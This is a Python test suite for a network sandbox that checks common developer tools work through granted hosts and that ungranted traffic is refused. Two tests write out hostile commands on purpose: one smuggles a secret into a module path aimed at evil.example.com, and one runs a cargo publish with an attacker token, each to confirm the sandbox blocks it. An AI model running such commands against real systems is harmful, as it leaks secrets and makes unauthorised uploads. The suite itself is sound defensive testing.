"""Tools that know nothing of proxies work as they are, in both arms: the same command, the same result."""
import base64
import os
import shutil
import socket
import subprocess
import threading
import time

from standin import modules, packages
from support import Case, victim

JAVA = """
import java.net.URI;
import java.net.http.*;
public class Get {
  public static void main(String[] words) throws Exception {
    var answer = HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create(words[0])).build(),
                                                 HttpResponse.BodyHandlers.ofString());
    System.out.print(answer.statusCode() + " " + answer.body());
  }
}
"""


class Tools(Case):
    def both(self, argv, policy, expected, env_inside=None, **keywords):
        """Runs argv in either arm with a fresh workspace; what it prints must hold `expected` both times."""
        keywords_inside = keywords if env_inside is None else {**keywords, "env": env_inside}
        for arm in ("outside", "inside"):
            with self.subTest(arm=arm):
                shutil.rmtree(self.work)
                self.folder("work")
                self.prepare()
                result = self.outside(argv, **keywords) if arm == "outside" else self.inside(argv, policy, **keywords_inside)
                self.assertEqual(result.status, 0, result)
                self.assertIn(expected, result.out, result)

    def prepare(self):
        pass

    def site(self, name="api.example.com"):
        self.lab.web.site(name, lambda request: request.text(f"{request.method} {request.host} {request.body.decode()}\n"))

    def test_curl(self):
        self.site()
        policy = self.grant("api.example.com") + self.grant("api.example.com", port=80, protocol="http")
        self.both(["curl", "-sS", "https://api.example.com/v1?x=1"], policy, "GET api.example.com")
        self.both(["curl", "-sS", "http://api.example.com/v1"], policy, "GET api.example.com")
        self.both(["curl", "-sS", "-d", "hello", "https://api.example.com/v1"], policy, "POST api.example.com hello")
        self.both(["curl", "-sS", "--http2", "https://api.example.com/v1"], policy, "GET api.example.com")
        self.both(["curl", "-sSI", "https://api.example.com/v1"], policy, "200")

    def test_curl_many_requests_over_one_connection(self):
        self.site()
        urls = [f"https://api.example.com/v1/{n}" for n in range(100)]
        result = self.ok(self.inside(["curl", "-sS", *urls], self.grant("api.example.com")))
        self.assertEqual(result.out.count("GET api.example.com"), 100)

    def test_big_bodies_both_ways(self):
        body = os.urandom(1 << 20) * 20
        self.lab.web.site("api.example.com", lambda request: request.raw(200, request.body or body))
        with open(os.path.join(self.work, "body"), "wb") as file:
            file.write(body)
        for url in ("https://api.example.com/", "http://api.example.com/"):
            policy = self.grant("api.example.com", port=80 if url.startswith("http:") else 443,
                                protocol="http" if url.startswith("http:") else None, more='max_body = "100MB"')
            result = self.inside(["/bin/sh", "-c", f"curl -sS {url} | cmp - body && curl -sS --data-binary @body {url} | cmp - body "
                                  "&& curl -sS -T - -X POST -H 'Expect:' " + url + " < body | cmp - body && echo the same"],
                                 policy, timeout=120)
            self.assertIn("the same", result.out, result)

    def test_streams_arrive_as_they_are_sent(self):
        def slow(request):
            def pieces():
                for number in range(5):
                    yield f"piece {number}\n"
                    time.sleep(0.4)
            request.stream("text/event-stream", pieces())

        self.lab.web.site("api.example.com", slow)
        script = ("import time, urllib.request as u\nr = u.urlopen('https://api.example.com/')\nstart = time.monotonic()\n"
                  "print([round(time.monotonic() - start, 1) for line in r])\n")
        result = self.ok(self.inside(["/usr/bin/python3", "-c", script], self.grant("api.example.com")))
        times = eval(result.out)
        self.assertEqual(len(times), 5)
        self.assertGreater(times[4] - times[0], 1.0, "the pieces came all at once")

    def test_git_over_https(self):
        if not os.path.exists(packages.Git.backend):
            self.skipTest("git http-backend is not installed")
        root = self.folder("repositories")
        packages.make_repository(root, "me/words")
        self.lab.web.site("github.com", packages.Git(root))
        policy = '[[grant]]\npreset = "github-read"\nwith = { repos = ["me/words"] }\n'
        self.both(["/bin/sh", "-c", "git clone -q https://github.com/me/words && cd words && git log --oneline | wc -l && "
                   "git fetch -q && git ls-remote | head -1 && wc -l < file2.txt"], policy, "1000")

    def test_git_by_its_ssh_address(self):
        """Rewritten to https, with the session's token where git asks for a password; the real one reaches the server."""
        if not os.path.exists(packages.Git.backend):
            self.skipTest("git http-backend is not installed")
        root = self.folder("repositories")
        packages.make_repository(root, "me/words")
        serve, seen = packages.Git(root), set()

        def private(request):
            seen.add(request.headers.get("Authorization"))
            if request.headers.get("Authorization") != "Basic " + base64.b64encode(b"x-access-token:real-git-key").decode():
                return request.raw(401, b"who?", headers=[("WWW-Authenticate", 'Basic realm="git"')])
            return serve(request)

        self.lab.web.site("github.com", private)
        policy = ('[credential.git]\nsource = "env:GITHUB_TOKEN"\nexpose = { env = "GITHUB_TOKEN" }\n'
                  'carry = { basic = "x-access-token" }\n[[grant]]\npreset = "github-read"\n'
                  'with = { repos = ["me/words"] }\ncredential = "git"\n')
        for url in ("git@github.com:me/words", "ssh://git@github.com/me/words", "https://github.com/me/words"):
            with self.subTest(url=url):
                result = self.inside(["/bin/sh", "-c", f"rm -rf words && git clone -q {url} && cd words && git log --oneline | wc -l && "
                                      "echo token $GITHUB_TOKEN"], policy, env={"GITHUB_TOKEN": "real-git-key"})
                self.ok(result)
                self.assertIn("3\ntoken ", result.out)
                self.assertNotIn("real-git-key", result.out)
        self.assertEqual(seen - {None}, {"Basic " + base64.b64encode(b"x-access-token:real-git-key").decode()})

    def test_a_service_of_the_host(self):
        """Named by a grant's address: reached at the host's loopback, and only by that name and port."""
        listener = self.lab.host_socket(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 11434), 16)
        heard = []

        def serve():
            while True:
                try:
                    connection, _ = listener.accept()
                except OSError:
                    return
                with connection:
                    heard.append(connection.recv(4096))
                    connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nmodels")

        threading.Thread(target=serve, daemon=True).start()
        self.addCleanup(lambda: (listener.shutdown(socket.SHUT_RDWR), listener.close()))
        policy = ('[[grant]]\nhost = "models.internal"\naddress = "127.0.0.1"\nport = 11434\nprotocol = "http"\n'
                  '[[grant.allow]]\nmethod = "GET"\npath = "/api/tags"\n')
        result = self.ok(self.inside(["/bin/sh", "-c", "curl -sS http://models.internal:11434/api/tags; "
                                      "curl -sS -o /dev/null -w ' %{http_code}' http://127.0.0.1:11434/api/tags; "
                                      "curl -sS -o /dev/null -w ' %{http_code}' http://models.internal:11434/api/pull"], policy))
        self.assertIn("models 403 403", result.out, result)
        self.assertEqual(len(heard), 1)

    def test_npm(self):
        self.lab.web.site("registry.npmjs.org", packages.npm)
        script = ("npm init -y >/dev/null && npm install --no-audit --no-fund --loglevel=error left-words && "
                  "node -e 'console.log(require(\"left-words\"))'")
        self.both(["/bin/sh", "-c", script], '[[grant]]\npreset = "npm-install"\n', "words from the registry",
                  env={"npm_config_update_notifier": "false", "npm_config_cafile": self.lab.authority.pem,
                       "npm_config_fetch_retries": "0"}, timeout=120)

    def test_node(self):
        self.site()
        self.both(["node", "-e", "fetch('https://api.example.com/').then(r => r.text()).then(t => console.log(t))"],
                  self.grant("api.example.com"), "GET api.example.com")

    def test_python(self):
        self.site()
        self.both(["/usr/bin/python3", "-c", "import urllib.request as u; print(u.urlopen('https://api.example.com/').read())"],
                  self.grant("api.example.com"), "GET api.example.com")

    def test_httpx(self):
        if subprocess.run(["/usr/bin/python3", "-c", "import httpx"], capture_output=True).returncode:
            self.skipTest("httpx is not installed for /usr/bin/python3")
        self.site()
        script = ("import httpx\nwith httpx.Client() as client:\n"
                  "  for path in '/v1', '/v2': print(client.post('https://api.example.com' + path, content='hello').text)\n")
        self.both(["/usr/bin/python3", "-c", script], self.grant("api.example.com"), "POST api.example.com hello")

    def test_pip(self):
        if subprocess.run(["/usr/bin/python3", "-m", "pip", "--version"], capture_output=True).returncode:
            self.skipTest("pip is not installed for /usr/bin/python3")
        self.lab.web.site("pypi.org", packages.pypi)
        self.lab.web.site("files.pythonhosted.org", packages.python_files)
        script = ("/usr/bin/python3 -m pip install -q --disable-pip-version-check --no-cache-dir --target lib leftwords && "
                  "PYTHONPATH=lib /usr/bin/python3 -c 'import leftwords; print(leftwords.words)'")
        self.both(["/bin/sh", "-c", script], '[[grant]]\npreset = "pypi-install"\n', "words from the index",
                  env={"PIP_CERT": self.lab.authority.pem}, timeout=120)

    def test_cargo(self):
        cargo, rustc = "/usr/bin/cargo", "/usr/bin/rustc"
        if not (os.path.exists(cargo) and os.path.exists(rustc)):
            self.skipTest("cargo is not installed: ./dev packages")
        self.lab.web.site("index.crates.io", modules.crates_index)
        self.lab.web.site("static.crates.io", modules.crates_files)
        # Before 1.68 the sparse index was there for who asks for it.
        version = tuple(map(int, subprocess.run([cargo, "--version"], capture_output=True, text=True).stdout.split()[1].split(".")[:2]))
        old = version < (1, 68) and version != (0, 68)
        option = "-Z sparse-registry" if old else ""
        script = (f"set -e; export CARGO_HOME=$(mktemp -d); {cargo} init -q --vcs none --name words .; "
                  f"echo '{modules.CRATE} = \"1\"' >> Cargo.toml; echo 'fn main() {{ println!(\"{{}}\", {modules.CRATE}::WORDS); }}' > src/main.rs; "
                  f"{cargo} {option} run -q")
        env = {"RUSTC": rustc, "CARGO_HTTP_CAINFO": self.lab.authority.pem, **({"RUSTC_BOOTSTRAP": "1"} if old else {})}
        inside = {name: value for name, value in env.items() if name != "CARGO_HTTP_CAINFO"}
        passed = '[env]\npass = ["RUSTC", "RUSTC_BOOTSTRAP"]\n[[grant]]\npreset = "crates"\n'
        self.both(["/bin/sh", "-c", script], passed, modules.WORDS, env=env, env_inside=inside, timeout=180)
        # Publishing is not of it.
        result = self.inside(["/bin/sh", "-c", script.replace("run -q", "publish -q --allow-dirty --token cio_attacker")], passed,
                             env=inside, timeout=120)
        self.assertNotEqual(result.status, 0, result)
        self.assertEqual([r for r in self.lab.web.received() if r.method != "GET"], [])

    def test_go(self):
        if not shutil.which("go", path="/usr/bin"):
            self.skipTest("go is not installed: ./dev packages")
        for by_proxy in (True, False):
            go = modules.GoModules(by_proxy)
            self.lab.web.site("proxy.golang.org", go.proxy)
            self.lab.web.site("sum.golang.org", go.database)
            self.lab.web.forget()
            script = ("set -e; export GOPATH=$(mktemp -d) GOCACHE=$(mktemp -d); go mod init example.com/x 2>/dev/null; "
                      f"printf 'package main\\nimport \"{go.module}\"\\nfunc main() {{ println(words.Text) }}\\n' > main.go; "
                      f"go get {go.module}; go run . 2>&1")
            env = {"GOSUMDB": go.sumdb, "CGO_ENABLED": "0", "GOPROXY": "https://proxy.golang.org", "GOFLAGS": "-modcacherw"}
            policy = ('[env]\npass = ["GOSUMDB", "CGO_ENABLED", "GOPROXY", "GOFLAGS"]\n'
                      '[[grant]]\npreset = "go-modules"\nwith = { hosts = ["github.com"] }\n')
            self.both(["/bin/sh", "-c", script], policy, go.text, env=env, timeout=180)
            self.assertEqual(bool(self.lab.web.received("sum.golang.org")), not by_proxy)
        # A module of another host, whose proxy would ask that host.
        self.lab.web.forget()
        elsewhere = script.replace(f"go get {go.module}", "go get evil.example.com/secret-in-hex")
        result = self.inside(["/bin/sh", "-c", elsewhere], policy, env=env, timeout=120)
        self.assertNotEqual(result.status, 0, result)
        self.assertEqual([r.path for r in self.lab.web.received() if "secret" in r.path], [])

    def test_java(self):
        if not shutil.which("java"):
            self.skipTest("java is not installed")
        if "jdk.compiler" not in subprocess.run(["java", "--list-modules"], capture_output=True, text=True).stdout:
            self.skipTest("java is installed without its compiler")
        self.site()
        self.write(os.path.join(self.work, "Get.java"), JAVA)
        result = self.inside(["java", "Get.java", "https://api.example.com/"], self.grant("api.example.com"), timeout=120)
        self.assertIn("200 GET api.example.com", result.out, result)

    def test_static_binary(self):
        """Its own resolver, no libc, no variables: as Go programs are."""
        self.site()
        self.prepare = lambda: shutil.copy(victim("http_get"), self.work)
        self.both(["./http_get", "api.example.com", "/v1"], self.grant("api.example.com", port=80, protocol="http"),
                  "GET api.example.com")

    def test_ssh_is_refused_clearly(self):
        began = time.monotonic()
        result = self.inside(["ssh", "-o", "StrictHostKeyChecking=no", "-o", "BatchMode=yes", "git@github.com", "true"])
        self.assertEqual(result.status, 255, result)
        self.assertLess(time.monotonic() - began, 10)
        self.assertRegex(result.err.lower(), "bulkhead.*ssh|ssh.*bulkhead", "it says who refuses and what")
        self.assertIn("denied", result.err)

    def test_an_ungranted_port_is_refused_at_once(self):
        result = self.inside(["/usr/bin/python3", "-c", "import socket, time; t = time.time()\n"
                              "try: socket.create_connection(('github.com', 9418), 10)\n"
                              "except ConnectionRefusedError: print('refused', time.time() - t < 1)"])
        self.assertIn("refused True", result.out, result)

    def test_toolchains_of_the_home_folder(self):
        self.write(os.path.join(self.home, ".local/bin/mytool"), "#!/bin/sh\necho my own tool\n", 0o755)
        self.write(os.path.join(self.home, ".gitconfig"), "[user]\n  name = Somebody\n")
        path = f"{self.home}/.local/bin:/usr/bin:/bin"
        result = self.inside(["/bin/sh", "-c", "mytool; git config user.name; echo x >> ~/.gitconfig; echo x > ~/.local/bin/mytool; "
                              "true"], env={"PATH": path})
        self.assertIn("my own tool\nSomebody\n", result.out, result)
        self.assertEqual(self.read(os.path.join(self.home, ".local/bin/mytool")), "#!/bin/sh\necho my own tool\n")

    def test_everyday_work(self):
        """Compile, test, archive, pipe, background jobs, /dev/fd, temporary files, sqlite, locales."""
        self.write(os.path.join(self.work, "main.c"), '#include <stdio.h>\nint main(void) { puts("compiled"); return 0; }\n')
        script = ("set -e; gcc -O1 -o main main.c; ./main; tar czf a.tgz main.c; tar tzf a.tgz; "
                  "diff <(echo a) <(echo a); mktemp; (sleep 0.1; echo background) & wait; "
                  "python3 -c 'import sqlite3,tempfile,multiprocessing as m; print(m.Pool(2).map(abs, [-1, 2]))'; "
                  "git init -q .; git add main.c; git -c user.name=a -c user.email=a@b commit -qm x; git status -s | wc -l; "
                  "ls -la /proc/self/fd >/dev/null; date; id; whoami; nproc; df . >/dev/null; ps aux | wc -l")
        result = self.ok(self.inside(["/bin/bash", "-c", script]))
        for text in ("compiled", "main.c", "background", "[1, 2]"):
            self.assertIn(text, result.out)
